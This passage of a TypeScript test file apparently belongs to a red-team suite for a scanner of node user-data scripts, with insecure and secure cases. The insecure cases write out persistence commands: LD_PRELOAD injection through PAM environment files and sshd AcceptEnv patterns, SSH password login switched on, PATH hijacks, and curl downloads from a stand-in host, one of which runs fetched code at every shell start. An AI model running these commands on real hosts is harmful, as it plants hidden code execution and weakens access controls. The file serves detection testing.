            "sed -i 's|pam_env.so.*|pam_env.so conffile=/opt/ops/env.conf|' /etc/pam.d/sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "P2 /etc/default/locale LD_PRELOAD (Ubuntu's pam_env envfile= in /etc/pam.d/sshd and login)",
        devNodeScript(n("p2"), [SO, "echo 'LD_PRELOAD=/opt/x.so' >> /etc/default/locale"]),
        LOADER,
    ),
    devNodeCase(
        "P3 pam_env.conf LD_PRELOAD DEFAULT=@{HOME}/x.so (PAM item, root's /root)",
        devNodeScript(n("p3"), ["echo 'LD_PRELOAD DEFAULT=@{HOME}/x.so' >> /etc/security/pam_env.conf"]),
        LOADER,
    ),
    devNodeCase(
        "P4 pam_env.conf PATH DEFAULT=${HOME}/bin:... (environment variable, root's HOME)",
        devNodeScript(n("p4"), ["echo 'PATH DEFAULT=${HOME}/bin:/usr/sbin:/usr/bin' >> /etc/security/pam_env.conf"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): PAM-ENV-VENDOR (low priority). pam_env.conf(5) (Linux-PAM 1.5.3+, man7.org): "The
    // /usr/share/pam/security/pam_env.conf and /etc/security/pam_env.conf files specify the environment variables" when
    // built with a vendor dir (openSUSE; AL2023's pam 1.5.1 does not read it). Accepted (got []): SESSION_ENVIRONMENT
    // (systemd.ts) names /etc files only. Fix: add /usr/share/pam/security/pam_env.conf and /usr/etc/environment.
    devNodeCase(
        "P5 /usr/share/pam/security/pam_env.conf (vendor file read as well) LD_PRELOAD",
        devNodeScript(n("p5"), [SO, "echo 'LD_PRELOAD DEFAULT=/opt/x.so' >> /usr/share/pam/security/pam_env.conf"]),
        LOADER,
    ),
    // ---- round 74 neighbours (fixer fix74-shellenv) ----
    devNodeCase(
        "Z1b /root/.zshenv exports ZDOTDIR (typeset -gx) to a downloaded directory",
        devNodeScript(n("z1b"), ["echo 'typeset -gx ZDOTDIR=/opt/ops' >> /root/.zshenv"]),
        LOADER,
    ),
    devNodeCase(
        "Z2b /root/.zshrc.zwc downloaded (root's own startup file's compiled twin)",
        devNodeScript(n("z2b"), ["curl -fsSL -o /root/.zshrc.zwc https://downloads.example.com/zshrc.zwc"]),
        LOADER,
    ),
    devNodeCase(
        "Z6b /etc/zsh/zshrc fpath=(/opt/ops/functions $fpath) (autoloaded functions from a downloaded directory)",
        devNodeScript(n("z6b"), ["echo 'fpath=(/opt/ops/functions $fpath); autoload -U compinit' >> /etc/zsh/zshrc"]),
        LOADER,
    ),
    devNodeCase(
        "Z6c /etc/zshrc zmodload of a named module alone (a .so from module_path the pack cannot see)",
        devNodeScript(n("z6c"), ["echo 'zmodload zsh/net/tcp' >> /etc/zshrc"]),
        LOADER,
    ),
    devNodeCase(
        "Z9b mksh's /etc/mkshrc PATH with a downloaded directory first",
        devNodeScript(n("z9b"), ["echo 'export PATH=/opt/ops/bin:$PATH' >> /etc/mkshrc"]),
        LOADER,
    ),
    devNodeCase(
        "Z10b fish /etc/fish/config.fish fish_add_path (a command the pack does not read)",
        devNodeScript(n("z10b"), ["echo 'fish_add_path /opt/ops/bin' >> /etc/fish/config.fish"]),
        LOADER,
    ),
    devNodeCase(
        "Z10c fish root's conf.d set -x PATH with a downloaded directory prepended",
        devNodeScript(n("z10c"), [
            "mkdir -p /root/.config/fish/conf.d",
            "echo 'set -x PATH /opt/ops/bin $PATH' > /root/.config/fish/conf.d/path.fish",
        ]),
        LOADER,
    ),
    devNodeCase(
        "Z10d fish vendor_conf.d file downloaded",
        devNodeScript(n("z10d"), [
            "curl -fsSL -o /usr/share/fish/vendor_conf.d/ops.fish https://downloads.example.com/ops.fish",
        ]),
        LOADER,
    ),
    devNodeCase(
        "H1b sshd AcceptEnv L?_PRELOAD (a ? pattern outside LC_/LANG)",
        devNodeScript(n("h1b"), ["echo 'AcceptEnv LANG L?_PRELOAD' > /etc/ssh/sshd_config.d/50-env.conf"]),
        LOADER,
    ),
    devNodeCase(
        "H1c sshd AcceptEnv *_OPTIONS (matches NODE_OPTIONS, JAVA_TOOL_OPTIONS)",
        devNodeScript(n("h1c"), ["echo 'AcceptEnv *_OPTIONS' > /etc/ssh/sshd_config.d/50-env.conf"]),
        LOADER,
    ),
    devNodeCase(
        "H3b /etc/sysconfig/sshd OPTIONS=-o PasswordAuthentication=yes (quoted in single quotes)",
        devNodeScript(n("h3b"), ["echo \"OPTIONS='-o PasswordAuthentication=yes'\" > /etc/sysconfig/sshd"]),
    ),
    devNodeCase(
        "H3c /etc/sysconfig/sshd OPTIONS=-f of another configuration file",
        devNodeScript(n("h3c"), [
            "curl -fsSL -o /opt/ops/sshd_config https://downloads.example.com/sshd_config",
            "echo 'OPTIONS=\"-f /opt/ops/sshd_config\"' > /etc/sysconfig/sshd",
        ]),
    ),
    devNodeCase(
        "H3d sshd run by user data with -o SetEnv=LD_PRELOAD",
        devNodeScript(n("h3d"), [SO, "/usr/sbin/sshd -p 2222 -o SetEnv=LD_PRELOAD=/opt/x.so"]),
        LOADER,
    ),
    devNodeCase(
        "H3e /etc/sysconfig/sshd downloaded (OPTIONS the pack cannot read)",
        devNodeScript(n("h3e"), ["curl -fsSL -o /etc/sysconfig/sshd https://downloads.example.com/sshd.sysconfig"]),
    ),
    devNodeCase(
        "Z10e fish conf.d set -gx of a harmless name from a command substitution (runs code at every start)",
        devNodeScript(n("z10e"), [
            "echo 'set -gx OPS_ID (curl -fsSL https://downloads.example.com/id | source)' > /etc/fish/conf.d/ops.fish",
        ]),
        LOADER,
    ),
    devNodeCase(
        "C2b git config --file /etc/profile.d/ops.sh (an unknown writer of a profile script)",
        devNodeScript(n("c2b"), ["git config --file /etc/profile.d/ops.sh alias.x '!sh /opt/x.sh'"]),
        LOADER,
    ),
    devNodeCase(
        "C5b augtool set of /etc/ssh/sshd_config PasswordAuthentication (Augeas path under /files)",
        devNodeScript(n("c5b"), ["augtool -s set /files/etc/ssh/sshd_config/PasswordAuthentication yes"]),
    ),
    devNodeCase(
        "C1b an editor the pack does not know given /etc/security/pam_env.conf",
        devNodeScript(n("c1b"), ["confedit /etc/security/pam_env.conf LD_PRELOAD /opt/x.so"]),
        LOADER,
    ),
    devNodeCase(
        "P5b /usr/etc/environment (pam_env's vendor default) LD_PRELOAD",
        devNodeScript(n("p5b"), [SO, "echo 'LD_PRELOAD=/opt/x.so' >> /usr/etc/environment"]),
        LOADER,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "S1 /etc/default/grub GRUB_CMDLINE_LINUX+= of console only",
        devNodeScript(n("s1"), [
            "echo 'GRUB_CMDLINE_LINUX+=\" console=ttyS0,115200n8\"' >> /etc/default/grub",
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
    ),
    devNodeCase(
        "S2 grub2-editenv set timeout and boot_success (GRUB's own variables)",
        devNodeScript(n("s2"), ["grub2-editenv - set menu_auto_hide=1 boot_success=1"]),
    ),
    devNodeCase(
        "S3 grub2-editenv list and unset (no value set)",
        devNodeScript(n("s3"), ["grub2-editenv list", "grub2-editenv - unset menu_auto_hide"]),
    ),
    devNodeCase(
        "S4 /etc/kernel/cmdline with comment line and mitigations/selinux options",
        devNodeScript(n("s4"), [
            ...file("/etc/kernel/cmdline", ["root=UUID=x ro console=ttyS0 selinux=1 audit=1 mitigations=auto"]),
        ]),
    ),
    devNodeCase(
        "S5 /etc/zshenv PATH=$PATH:/usr/local/bin and export LANG",
        devNodeScript(n("s5"), ["printf 'PATH=$PATH:/usr/local/bin\\nexport LANG=C.UTF-8\\n' >> /etc/zshenv"]),
    ),
    devNodeCase(
        "S6 /etc/csh.login setenv LANG and TZ",
        devNodeScript(n("s6"), ["printf 'setenv LANG C.UTF-8\\nsetenv TZ UTC\\n' >> /etc/csh.login"]),
    ),
    devNodeCase(
        "S7 sshd_config.d SetEnv TZ and LANG in one line, AcceptEnv LC_* and LANGUAGE",
        devNodeScript(n("s7"), [
            ...file("/etc/ssh/sshd_config.d/50-env.conf", [
                "SetEnv TZ=UTC LANG=C.UTF-8",
                "AcceptEnv LANG LANGUAGE LC_*",
            ]),
        ]),
    ),
    devNodeCase(
        "S8 sshd_config.d AcceptEnv COLORTERM TERM_PROGRAM (no loader variable)",
        devNodeScript(n("s8"), ["echo 'AcceptEnv COLORTERM TERM_PROGRAM' > /etc/ssh/sshd_config.d/50-env.conf"]),
    ),
    devNodeCase(
        "S9 crudini --get and --del of system.conf (no write of a value)",
        devNodeScript(n("s9"), [
            "crudini --get /etc/systemd/system.conf Manager DefaultEnvironment || true",
            "crudini --del /etc/systemd/system.conf Manager DefaultEnvironment",
        ]),
    ),
    devNodeCase(
        "S10 crudini --set journald.conf Journal SystemMaxUse 1G",
        devNodeScript(n("s10"), ["crudini --set /etc/systemd/journald.conf Journal SystemMaxUse 1G"]),
    ),
    devNodeCase(
        "S11 pam_env.conf PATH DEFAULT=${PATH} OVERRIDE=${PATH}:/usr/local/bin and TZ DEFAULT=UTC",
        devNodeScript(n("s11"), [
            ...file("/etc/security/pam_env.conf", [
                "PATH DEFAULT=${PATH} OVERRIDE=${PATH}:/usr/local/bin",
                "TZ DEFAULT=UTC",
            ]),
        ]),
    ),
    devNodeCase(
        "S12 pam_env.conf EDITOR DEFAULT=vim with a trailing comment and tabs",
        devNodeScript(n("s12"), ["printf 'EDITOR\\tDEFAULT=vim\\t# ops\\n' >> /etc/security/pam_env.conf"]),
    ),
    devNodeCase(
        "S13 BLS entry sed adding nvme_core.io_timeout",
        devNodeScript(n("s13"), [
            "sed -i 's/^options .*/& nvme_core.io_timeout=4294967295/' /boot/loader/entries/*.conf",
        ]),
    ),
    devNodeCase(
        "S14 grubby --update-kernel=ALL --remove-args=quiet --args=console=ttyS0",
        devNodeScript(n("s14"), ["grubby --update-kernel=ALL --remove-args=quiet --args=console=ttyS0"]),
    ),
    // ---- round 74 neighbours (fixer fix74-shellenv) ----
    devNodeCase(
        "S15 fish /etc/fish/conf.d set -gx LANG and an appended PATH of system directories",
        devNodeScript(n("s15"), [
            "dnf install -y fish",
            "printf 'set -gx LANG C.UTF-8\\nset -gx PATH $PATH /usr/local/bin\\n' > /etc/fish/conf.d/ops.fish",
        ]),
    ),
    devNodeCase(
        "S16 ksh93 /etc/ksh.kshrc export EDITOR and TZ",
        devNodeScript(n("s16"), ["printf 'export EDITOR=vi\\nexport TZ=UTC\\n' >> /etc/ksh.kshrc"]),
    ),
    devNodeCase(
        "S17 sshd_config.d AcceptEnv LANG* LC_? (locale-only patterns)",
        devNodeScript(n("s17"), ["echo 'AcceptEnv LANG* LC_? LC_*' > /etc/ssh/sshd_config.d/50-env.conf"]),
    ),
    devNodeCase(
        "S18 /etc/sysconfig/sshd OPTIONS=-o LogLevel=VERBOSE",
        devNodeScript(n("s18"), ["echo 'OPTIONS=\"-o LogLevel=VERBOSE\"' >> /etc/sysconfig/sshd"]),
    ),
    devNodeCase(
        "S19 git config --file and openstack-config --set of an application's own ini (no file root's programs read)",
        devNodeScript(n("s19"), [
            "git config --file /opt/app/settings.ini app.name ops",
            "openstack-config --set /opt/app/app.ini DEFAULT debug false",
        ]),
    ),
    devNodeCase(
        "S20 augtool print of sshd_config (no -s, no set) and zshenv export LANG only",
        devNodeScript(n("s20"), ["augtool print /files/etc/hosts", "echo 'export LANG=C.UTF-8' >> /etc/zshenv"]),
    ),
    devNodeCase(
        "S21 /usr/share/pam/security/pam_env.conf TZ DEFAULT=UTC",
        devNodeScript(n("s21"), ["echo 'TZ DEFAULT=UTC' >> /usr/share/pam/security/pam_env.conf"]),
    ),
    // Round 74 neighbours (fix74-kernel): the same files and tools with harmless arguments only.
    devNodeCase(
        "S22 grub.cfg written whole: load_env test, set kernelopts of console/audit, linux $kernelopts",
        devNodeScript(n("s22"), [
            ...file("/boot/grub2/grub.cfg", [
                "if [ -s $prefix/grubenv ]; then",
                "  load_env",
                "fi",
                "set default=0",
                "set timeout=1",
                'set kernelopts="root=UUID=x ro console=ttyS0,115200n8 audit=1"',
                "menuentry 'ops' {",
                "    linux /vmlinuz $kernelopts",
                "    initrd /initramfs.img",
                "}",
            ]),
        ]),
    ),
    devNodeCase(
        "S23 /etc/grub.d/40_custom menuentry with console= and audit=1",
        devNodeScript(n("s23"), [
            ...file("/etc/grub.d/40_custom", [
                "#!/bin/sh",
                "exec tail -n +3 $0",
                "menuentry 'ops' {",
                "    linux /vmlinuz root=UUID=x ro console=ttyS0 audit=1",
                "}",
            ]),
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
    ),
    devNodeCase(
        "S24 grubenv sed appending audit=1 to kernelopts, and of saved_entry",
        devNodeScript(n("s24"), [
            "sed -i 's|^kernelopts=.*|& audit=1|' /boot/grub2/grubenv",
            "sed -i 's|^saved_entry=.*|saved_entry=1|' /boot/grub2/grubenv",
        ]),
    ),
    devNodeCase(
        "S25 kexec of the installed kernel with --reuse-cmdline and --append console=, then systemctl kexec",
        devNodeScript(n("s25"), [
            'kexec -l "/boot/vmlinuz-$(uname -r)" --initrd="/boot/initramfs-$(uname -r).img" --reuse-cmdline --append="console=ttyS0 audit=1"',
            "systemctl kexec",
        ]),
    ),
    devNodeCase(
        "S26 bootctl systemd-efi-options systemd.log_level=info",
        devNodeScript(n("s26"), ["bootctl systemd-efi-options 'systemd.log_level=info'"]),
    ),
    devNodeCase(
        "S27 uki.conf Cmdline= of console/audit, ukify --cmdline=@/etc/kernel/cmdline",
        devNodeScript(n("s27"), [
            "echo 'layout=uki' > /etc/kernel/install.conf",
            ...file("/etc/kernel/uki.conf", ["[UKI]", "Cmdline=root=UUID=x ro console=ttyS0 audit=1"]),
            'ukify build --linux="/lib/modules/$(uname -r)/vmlinuz" --cmdline=@/etc/kernel/cmdline --output=/boot/efi/EFI/Linux/ops.efi',
        ]),
    ),
    devNodeCase(
        "S28 efibootmgr boot entry with -u console=ttyS0 audit=1",
        devNodeScript(n("s28"), [
            "efibootmgr -c -d /dev/nvme0n1 -p 1 -L ops -l '\\vmlinuz.efi' -u 'root=UUID=x ro console=ttyS0 audit=1'",
        ]),
    ),
];

describeNodeCases("red team 73: node user data (neighbours of round 73's environment fixes)", insecure, secure);
